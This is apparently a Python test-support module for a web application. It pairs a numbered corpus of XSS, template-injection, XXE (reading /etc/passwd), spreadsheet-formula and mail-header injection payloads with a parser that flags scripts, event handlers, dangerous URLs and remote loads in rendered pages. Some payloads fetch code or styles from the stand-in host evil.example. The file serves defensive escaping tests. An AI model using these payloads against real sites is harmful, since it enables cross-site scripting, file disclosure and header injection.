"""A corpus of injection payloads, and the checks that find executable markup in a page.

Every payload that could run calls ``alert(N)`` (N its number in `PAYLOADS`, from 1), so a
browser trap can tell which one ran. Where a payload cannot run by itself (template
syntax, entities, CSS, office fields) it is there to be printed literally: a page that
shows ``{{7*7}}`` as ``49``, or an entity as its character, interpreted user text.

`executable_markup` reads a page the way a browser would (script contents raw, ``title``
and ``textarea`` contents as text) and lists what could run or load: any script element
other than the application's bundles and JSON data blocks, any ``on…`` attribute, any
``javascript:``/``data:``/``vbscript:`` address, elements that embed or navigate (frames,
objects, ``base``, ``meta`` refresh, SVG and MathML), style elements and style attributes.
`visible_texts` gives what the page shows as text and attribute values, so that a test
can check that a payload arrived there as written.
"""

from __future__ import annotations

import html
import json
import re
import unicodedata
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from html.parser import HTMLParser

from declaration.domain.text import clean

# fmt: off
PAYLOADS: tuple[str, ...] = (
    # 1-10 script elements
    "<script>alert(1)</script>",
    "<ScRiPt>alert(2)</sCrIpT>",
    "<script src=//evil.example/3.js></script>",
    "<script>window.__xss=4</script>",
    "<script\x20type=module>alert(5)</script>",
    "<script/src=data:,alert(6)></script>",
    "<<script>alert(7);//<</script>",
    "<scr<script>ipt>alert(8)</scr</script>ipt>",
    "<script>alert`9`</script>",
    "<script>/*</script><script>*/alert(10)</script>",
    # 11-20 breaking out of the surrounding element
    "</textarea><script>alert(11)</script>",
    "</title><script>alert(12)</script>",
    "</script><script>alert(13)</script>",
    "</script><img src=x onerror=alert(14)>",
    "</style><script>alert(15)</script>",
    "</noscript><img src=x onerror=alert(16)>",
    "</pre><script>alert(17)</script>",
    "</blockquote></p></div><script>alert(18)</script>",
    "</option></select><img src=x onerror=alert(19)>",
    "</code></li></ul><svg onload=alert(20)>",
    # 21-30 attribute breakouts: quotes, backticks, missing quotes
    '"><script>alert(21)</script>',
    "'><script>alert(22)</script>",
    '" onmouseover="alert(23)" x="',
    "' onmouseover='alert(24)' x='",
    "` onmouseover=`alert(25)`",
    '" autofocus onfocus="alert(26)',
    '"><img src=x onerror=alert(27)>',
    "x onerror=alert(28) y",
    '"/><svg/onload=alert(29)>',
    '\\" onclick=\\"alert(30)',
    # 31-45 event handlers on all kinds of elements
    "<img src=x onerror=alert(31)>",
    '<img src="x" onerror="alert(32)">',
    "<img src=x onerror=alert(33)//",
    "<svg onload=alert(34)>",
    "<body onload=alert(35)>",
    "<input autofocus onfocus=alert(36)>",
    "<details open ontoggle=alert(37)>",
    "<video><source onerror=alert(38)></video>",
    "<audio src=x onerror=alert(39)>",
    "<marquee onstart=alert(40)>",
    "<select autofocus onfocus=alert(41)>",
    "<textarea autofocus onfocus=alert(42)>",
    "<x onclick=alert(43)>klick</x>",
    "<div onpointerover=alert(44)>hier</div>",
    "<img src=x:alert(45) onerror=eval(src)>",
    # 46-60 javascript:, data: and vbscript: addresses
    '<a href="javascript:alert(46)">Link</a>',
    '<a href="jav&#x09;ascript:alert(47)">Link</a>',
    '<a href="&#106;avascript:alert(48)">Link</a>',
    '<a href=" javascript:alert(49)">Link</a>',
    '<iframe src="javascript:alert(50)"></iframe>',
    '<iframe srcdoc="<script>alert(51)</script>"></iframe>',
    '<object data="javascript:alert(52)"></object>',
    '<embed src="javascript:alert(53)">',
    '<form action="javascript:alert(54)"><button>Senden</button></form>',
    "<button formaction=javascript:alert(55)>Los</button>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg1Nik8L3NjcmlwdD4=">Daten</a>',
    '<a href="vbscript:msgbox(57)">VB</a>',
    "<IMG SRC=`javascript:alert(58)`>",
    '<img srcset="x 1x, javascript:alert(59) 2x">',
    "javascript:alert(60)",
    # 61-70 SVG and MathML
    "<svg><script>alert(61)</script></svg>",
    "<svg><animate onbegin=alert(62) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(63)"><text y="20">SVG</text></a></svg>',
    "<svg><set attributeName=onmouseover to=alert(64)>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(65)>#x"/></svg>',
    '<math href="javascript:alert(66)">Formel</math>',
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(67)>",
    "<svg><style><img src=x onerror=alert(68)></style></svg>",
    "<svg><foreignObject><iframe onload=alert(69)></iframe></foreignObject></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(70)>x</maction></math>",
    # 71-80 template injection (server, client, other engines)
    "{{7*7}}",
    "{{constructor.constructor('alert(72)')()}}",
    "${alert(73)}",
    "#{7*7}",
    "{% print(7*7) %}",
    "<%= 7*7 %>",
    "{{ config.items() }}",
    "{{ self.__init__.__globals__ }}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "[[${7*7}]]",
    # 81-90 Markdown links, images and raw HTML in Markdown
    "[Klick](javascript:alert(81))",
    "[Klick](JaVaScRiPt:alert(82))",
    "![Bild](javascript:alert(83))",
    '[Klick](javascript:alert(84) "Titel")',
    "<javascript:alert(85)>",
    "[Daten](data:text/html;base64,PHNjcmlwdD5hbGVydCg4Nik8L3NjcmlwdD4=)",
    "![Zählpixel](https://evil.example/87.png)",
    '[x](https://evil.example/" onclick="alert(88))',
    "**<img src=x onerror=alert(89)>**",
    "`<script>alert(90)</script>`",
    # 91-100 HTML entities, encodings, comments and CDATA
    "&lt;script&gt;alert(91)&lt;/script&gt;",
    "&#60;script&#62;alert(92)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(93)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(94)\\x3c/script\\x3e",
    "%3Cscript%3Ealert(95)%3C/script%3E",
    "+ADw-script+AD4-alert(96)+ADw-/script+AD4-",
    "<!--<script>alert(97)</script>-->",
    "--><script>alert(98)</script><!--",
    "<!--><img src=x onerror=alert(99)>-->",
    "<![CDATA[<script>alert(100)</script>]]>",
    # 101-110 CSS
    '<div style="background:url(javascript:alert(101))">CSS</div>',
    '<div style="width:expression(alert(102))">CSS</div>',
    "<style>@import 'https://evil.example/103.css';</style>",
    '<link rel="stylesheet" href="https://evil.example/104.css">',
    "<style>*{background:url('javascript:alert(105)')}</style>",
    '<p style="behavior:url(#default#time2)" onbegin="alert(106)">CSS</p>',
    "x{}</style><script>alert(107)</script>",
    '<div style="-moz-binding:url(https://evil.example/108.xml#x)">CSS</div>',
    "expression(alert(109))",
    "url(javascript:alert(110))",
    # 111-120 Unicode tricks: bidi controls, fullwidth, zero-width, line separators
    "\u202e<script>alert(111)</script>\u202c",
    "\u2066<img src=x onerror=alert(112)>\u2069",
    "\uff1cscript\uff1ealert(113)\uff1c/script\uff1e",
    "\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54:alert(114)",
    "java\u200bscript:alert(115)",
    "\ufeff<script>alert(116)</script>",
    "\u2028<script>alert(117)</script>\u2029",
    "<scr\x00ipt>alert(118)</script>",
    "\u0131mg \u017ftyle \uff4fnerror=alert(119)",
    "\U0001d563\U0001d552\U0001d567\U0001d552:alert(120)",
    # 121-130 elements that navigate, fetch or change the page
    '<meta http-equiv="refresh" content="0;url=javascript:alert(121)">',
    '<base href="https://evil.example/122/">',
    "<template><script>alert(123)</script></template>",
    "<xmp><script>alert(124)</script></xmp>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(125)>\">",
    "<plaintext><script>alert(126)</script>",
    '<isindex action="javascript:alert(127)" type="image">',
    '<a href="https://evil.example/128" target="_blank">Neues Fenster</a>',
    '<img src="https://evil.example/129.gif">',
    '<iframe src="https://evil.example/130"></iframe>',
    # 131-140 JavaScript string contexts, office documents, e-mail headers
    '"-alert(131)-"',
    "'-alert(132)-'",
    "\\'-alert(133)//",
    "</w:t></w:r><w:r><w:fldSimple w:instr=\"HYPERLINK javascript:alert(134)\"/></w:r>",
    '</text:p><text:a xlink:href="javascript:alert(135)">ODT</text:a>',
    "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
    "=HYPERLINK(\"javascript:alert(137)\")",
    "{\\field{\\*\\fldinst HYPERLINK \"javascript:alert(138)\"}}",
    "Betreff\r\nBcc: alert139@evil.example",
    "Name\nX-Injected: alert(140)",
)
# fmt: on

#: Payloads that spread over several lines: only the declaration's text and comments hold
#: them (single-line fields join their lines).
MULTILINE_PAYLOADS: tuple[str, ...] = (
    "```\n<script>alert(141)</script>\n```",
    "[Verweis][r141]\n\n[r141]: javascript:alert(142)",
    "> <script>alert(143)</script>\n> [x](javascript:alert(143))",
    "# <svg onload=alert(144)>\n\n- <img src=x onerror=alert(144)>\n"
    "1. <a href=javascript:alert(144)>x</a>",
    "<div\nonclick=alert(145)>mehrzeilig</div>",
)

#: Addresses that are still addresses (no white space, none of the characters a mail
#: header reads as syntax) and carry script, template or encoded markup.
EMAIL_PAYLOADS: tuple[str, ...] = (
    "x'onmouseover='alert`201`'@example.org",
    "{{7*7}}@example.org",
    "'-alert`203`-'@example.org",
    "%3cscript%3ealert`204`%3c/script%3e@example.org",
    "javascript/alert`205`@example.org",
)

#: Addresses a mail header would read as another address (or as several), while a page
#: shows the whole text: refused wherever an address is entered.
REFUSED_EMAILS: tuple[str, ...] = (
    '"><img/src=x/onerror=alert(211)>@example.org',
    "<script>alert(212)</script>@example.org",
    "a@evil.example><svg/onload=alert(213)>",
    "javascript:alert(214)//@example.org",
    '"a@b.example"@evil.example',
    "Name <a@b.example>",
    "a@b.example,c@evil.example",
    "a@b.example;c@evil.example",
    "a(Kommentar)@b.example",
    "a@[127.0.0.1]",
    "a\\b@b.example",
)

#: Every payload, in order.
ALL: tuple[str, ...] = PAYLOADS + MULTILINE_PAYLOADS


def spread(limit: int, payloads: Sequence[str] = PAYLOADS, separator: str = " ") -> list[str]:
    """Pack ``payloads`` into as few strings as possible of at most ``limit`` characters.

    Each payload stays whole; a field that holds one of these strings holds every payload
    in it, so a handful of names, titles or reasons carries the whole corpus.
    """
    out: list[str] = []
    current = ""
    for payload in payloads:
        if len(payload) > limit:
            raise ValueError(f"payload longer than {limit}: {payload!r}")
        joined = f"{current}{separator}{payload}" if current else payload
        if len(joined) > limit:
            out.append(current)
            current = payload
        else:
            current = joined
    if current:
        out.append(current)
    return out


def as_stored(text: str, *, one_line: bool = True) -> str:
    """Return ``text`` as a field keeps it: cleaned, NFC, white space joined (one line)."""
    cleaned = unicodedata.normalize("NFC", clean(text))
    return " ".join(cleaned.split()) if one_line else cleaned


def squeeze(text: str) -> str:
    """Return ``text`` with every run of white space as one space (for comparisons)."""
    return " ".join(text.split())


# -- reading a page ------------------------------------------------------------------------

#: Attributes that hold an address a browser follows or loads.
URL_ATTRIBUTES = frozenset(
    {
        "href", "src", "action", "formaction", "xlink:href", "data", "poster", "background",
        "srcset", "ping", "cite", "manifest", "codebase", "dynsrc", "lowsrc", "srcdoc",
    }
)  # fmt: skip

#: Elements that run, embed, navigate or style, none of which user text may produce.
FORBIDDEN_ELEMENTS = frozenset(
    {
        "iframe", "frame", "frameset", "object", "embed", "applet", "base", "svg", "math",
        "img", "video", "audio", "source", "track", "picture", "image", "style", "template",
        "xmp", "plaintext", "noembed", "marquee", "isindex", "portal", "fencedframe",
        "animate", "set", "foreignobject", "maction", "w:fldsimple", "text:a", "param",
        "bgsound", "layer", "ilayer", "blink",
    }
)  # fmt: skip

#: The application's own script elements: bundles by address, JSON data blocks by id.
APP_SCRIPT = re.compile(r"^/static/dist/[a-z][a-z0-9_-]*\.js$")
APP_DATA_BLOCKS = frozenset({"initial-text", "editor-strings", "official-files"})

_BAD_SCHEME = re.compile(r"^(?:javascript|vbscript|data|livescript|mocha):", re.I)
_IGNORED_IN_SCHEMES = re.compile(r"[\x00-\x20\x7f-\x9f]")


def _scheme_of(value: str) -> str:
    """Return the start of an address as a browser reads its scheme (controls dropped)."""
    return _IGNORED_IN_SCHEMES.sub("", html.unescape(value)).lower()


@dataclass
class _Element:
    tag: str
    attrs: list[tuple[str, str | None]]
    line: int
    text: list[str] = field(default_factory=list)


class _Reader(HTMLParser):
    """HTML read as a browser would: script and style raw, title and textarea as text."""

    RAW = ("script", "style", "xmp", "plaintext", "noembed", "noframes", "iframe")
    TEXT = ("title", "textarea")

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[_Element] = []
        self.texts: list[str] = []
        self.values: list[str] = []
        self._open: _Element | None = None
        self._escaped_raw = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        element = _Element(tag, attrs, self.getpos()[0])
        self.elements.append(element)
        self.values.extend(value for _, value in attrs if value)
        if tag in self.RAW or tag in self.TEXT:
            self._open = element
            self._escaped_raw = tag in self.TEXT
            self.set_cdata_mode(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append(_Element(tag, attrs, self.getpos()[0]))
        self.values.extend(value for _, value in attrs if value)

    def handle_endtag(self, tag: str) -> None:
        if self._open is not None and tag == self._open.tag:
            self._open = None

    def handle_data(self, data: str) -> None:
        if self._open is not None:
            text = html.unescape(data) if self._escaped_raw else data
            self._open.text.append(text)
            if self._escaped_raw:
                self.texts.append(text)
            return
        self.texts.append(data)

    def handle_comment(self, data: str) -> None:
        self.elements.append(_Element("!comment", [("data", data)], self.getpos()[0]))

    def unknown_decl(self, data: str) -> None:
        self.elements.append(_Element("!decl", [("data", data)], self.getpos()[0]))


def _read(page: str) -> _Reader:
    reader = _Reader()
    reader.feed(page)
    reader.close()
    return reader


#: The head of the standalone HTML export: its own policy and its own style sheet.
EXPORT_HEAD = re.compile(
    r'<meta http-equiv="Content-Security-Policy" content="default-src \'none\'; [^"<>]*">\n'
    r'<meta name="referrer" content="no-referrer">\n<title>[^<]*</title>\n<style>[^<]*</style>\n'
    r"</head>"
)


def executable_markup(page: str, *, export: bool = False) -> list[str]:
    """Return what in ``page`` could run code, load something or navigate (empty: nothing).

    Allowed are only the application's bundles (``<script type="module"
    src="/static/dist/….js">``), its JSON data blocks (valid JSON, no ``<`` inside) and
    its own stylesheets and icon from ``/static/``. ``export``: the page is an HTML
    export, whose head holds its own policy (nothing may load) and style sheet.
    """
    found: list[str] = []
    if export:
        head = EXPORT_HEAD.search(page)
        if head is None or page.count("<head>") != 1 or head.start() > page.find("<body>") >= 0:
            return ["not the HTML export's head"]
        page = page[: head.start()] + "</head>" + page[head.end() :]
    for element in _read(page).elements:
        tag, attrs = element.tag, dict(element.attrs)
        where = f"line {element.line}: <{tag}>"
        if tag == "!comment":
            found.append(f"{where} an HTML comment: {attrs.get('data')!r}")
            continue
        if tag == "!decl":
            found.append(f"{where} a markup declaration: {attrs.get('data')!r}")
            continue
        if tag == "script":
            found.extend(_script_problems(element, where))
        elif tag in FORBIDDEN_ELEMENTS:
            found.append(f"{where} an element user text must not make")
        elif tag == "link":
            rel = (attrs.get("rel") or "").lower()
            href = attrs.get("href") or ""
            if rel not in ("stylesheet", "icon") or not href.startswith("/static/"):
                found.append(f"{where} a link to {href!r} ({rel})")
        elif tag == "meta" and attrs.get("http-equiv") is not None:
            found.append(f"{where} meta http-equiv={attrs.get('http-equiv')!r}")
        for name, value in element.attrs:
            if name.startswith("on"):
                found.append(f"{where} an event handler {name}={value!r}")
            elif name == "style":
                found.append(f"{where} a style attribute {value!r}")
            elif name in URL_ATTRIBUTES and value is not None:
                if _BAD_SCHEME.match(_scheme_of(value)):
                    found.append(f"{where} {name}={value!r}")
                elif name not in ("href", "action", "cite") and not value.startswith("/"):
                    found.append(f"{where} loads {name}={value!r} from elsewhere")
            elif name == "srcdoc":
                found.append(f"{where} srcdoc={value!r}")
    return found


def _script_problems(element: _Element, where: str) -> list[str]:
    attrs = dict(element.attrs)
    src = attrs.get("src")
    kind = (attrs.get("type") or "").lower()
    body = "".join(element.text)
    if src is not None:
        if kind == "module" and APP_SCRIPT.match(src) and len(attrs) == 2 and not body.strip():
            return []
        return [f"{where} a script from {src!r} ({kind!r})"]
    if kind == "application/json" and attrs.get("id") in APP_DATA_BLOCKS and len(attrs) == 2:
        if "<" in body:
            return [f"{where} a data block holding '<'"]
        try:
            json.loads(body)
        except ValueError:
            return [f"{where} a data block that is not JSON"]
        return []
    return [f"{where} an inline script {body[:80]!r}"]


#: Between the values `visible_texts` joins (no payload holds it).
SEPARATOR = " \x01 "


def visible_texts(page: str) -> str:
    """Return the page's text and attribute values, white space squeezed, in one string.

    Script and style contents are left out; JSON data blocks are read separately. NUL
    characters are dropped (a browser shows them as U+FFFD; only a form that shows back
    what was sent, before cleaning, holds one).
    """
    reader = _read(page.replace("\x00", ""))
    return squeeze("".join(reader.texts)) + SEPARATOR + squeeze(SEPARATOR.join(reader.values))


def data_block(page: str, block_id: str) -> object:
    """Return the JSON data block ``block_id`` of ``page`` parsed."""
    for element in _read(page).elements:
        if element.tag == "script" and dict(element.attrs).get("id") == block_id:
            return json.loads("".join(element.text))
    raise AssertionError(f"no data block {block_id!r}")


def missing(texts: str, expected: Iterable[str]) -> list[str]:
    """Return those of ``expected`` (squeezed, NUL dropped) that ``texts`` does not show."""
    return [item for item in expected if squeeze(item.replace("\x00", "")) not in texts]
